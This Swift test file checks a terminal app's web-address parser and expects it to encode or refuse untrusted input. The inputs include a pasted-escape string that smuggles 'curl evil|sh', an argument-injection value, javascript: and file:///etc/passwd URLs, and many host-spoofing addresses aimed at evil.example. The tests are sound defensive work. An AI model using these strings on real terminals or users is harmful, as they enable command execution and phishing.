import Testing

@testable import Terminal

struct WebAddressTests {
  @Test(arguments: [
    ("https://github.com/octocat", "https://github.com/octocat"),
    ("http://127.0.0.1:8080/a", "http://127.0.0.1:8080/a"),
    ("HTTPS://GitHub.com", "HTTPS://GitHub.com"), ("https://[::1]/a", "https://[::1]/a"),
    ("https://bücher.example/é?q=ö#ß", "https://b%C3%BCcher.example/%C3%A9?q=%C3%B6#%C3%9F"),
    ("https://medium.com/@octocat", "https://medium.com/@octocat"),
    ("https://a.example?x=a@b", "https://a.example?x=a@b"),
    ("https://x/\u{1B}[201~\ncurl evil|sh\n", "https://x/%1B[201~%0Acurl%20evil|sh%0A"),
  ])
  func `Web pages have addresses in printable ASCII`(text: String, address: String) {
    #expect(WebAddress(untrusted: text)?.text == address)
  }

  @Test(arguments: [
    "", "github.com", "--gpu-launcher=xterm -e id", "javascript:alert(1)", "file:///etc/passwd", "mailto:a@b.example",
    "ftp://a", " https://a", "-https://a", "https:/a", "https:a", "https://", "https:///a", "https://:80/",
    "https://?q",
  ])
  func `Text that is not the address of a web page is refused`(text: String) {
    #expect(WebAddress(untrusted: text) == nil)
  }

  @Test(arguments: [
    "https://github.com@evil.example/login", "https://github.com:pw@evil.example/", "https://@evil.example/",
    "https://evil.example\\@github.com/", "https://evil.example\\.github.com", "https://a\"b/", "https://a<b>/",
    "https://a.example;b/", "https://github.com%40@evil.example", "https://github.com\u{3002}evil.example/",
    "https://github.com%E3%80%82evil.example/", "https://github.com%2eevil.example/",
    "https://github.com%40evil.example", "https://github.com\u{FF0F}evil.example",
    "https://github.com%20evil.example", "https://github.com:443:evil.example", "https://github.com:443.evil.example",
    "https://127.0.0.1]/", "https://[::1/", "https://[::1]evil.example/", "https://[]/", "https://[github.com]/",
    "https://git\u{200B}hub.com/",
  ])
  func `An address that hides its host is refused`(text: String) {
    #expect(WebAddress(untrusted: text) == nil)
    #expect(Link(untrusted: text) == nil)
  }
}
